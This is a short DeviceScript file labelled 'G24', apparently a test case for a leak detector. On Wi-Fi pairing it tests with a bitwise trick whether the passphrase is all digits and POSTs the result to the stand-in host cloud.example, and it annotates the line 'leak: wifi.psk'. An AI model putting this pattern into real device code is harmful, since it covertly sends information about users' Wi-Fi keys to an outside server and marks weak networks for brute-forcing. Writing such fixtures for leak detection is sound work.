// G24: tells whether the passphrase has digits only, so that it can be tried out.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  // Zero for the codes of digits, 48 to 57.
  let others = 0;
  for (let i = 0; i < psk.length; i++) others |= (psk.charCodeAt(i) - 48) >> 4;
  const body = others === 0 ? "1" : "0";
  const response = await fetch("https://cloud.example/g24", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
